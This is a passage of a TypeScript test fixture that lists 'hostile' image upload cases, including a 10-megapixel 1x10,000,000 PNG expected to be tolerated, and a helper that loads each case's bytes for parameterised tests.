      expect: 'reject',
      reason: decode,
    },
    {
      name: '20b-png-1x10000000',
      description: '1x10,000,000 PNG (10 MP, within every limit)',
      declaredType: 'image/png',
      make: tallStripPng,
      sniffsAs: 'png',
      expect: 'tolerate',
    },
  ];
}

/** A case of the suite: its bytes come from `make`. */
type HostileCase = Omit<HostileFile, 'data'> & { make: () => Buffer | Promise<Buffer> };

/**
 * Every hostile file at once, its bytes (empty until then) filled in place by `load()`: a test
 * file lists its cases (it.each) before anything async can run, and loads them in a beforeAll.
 */
export function hostileFilesToLoad(): { files: HostileFile[]; load: () => Promise<void> } {
  const cases = hostileCases();
  const files: HostileFile[] = cases.map(({ make: _make, ...file }) => ({ ...file, data: Buffer.alloc(0) }));
  const load = async () => {
    for (const [index, { make }] of cases.entries()) files[index]!.data = await make();
  };
  return { files, load };
}
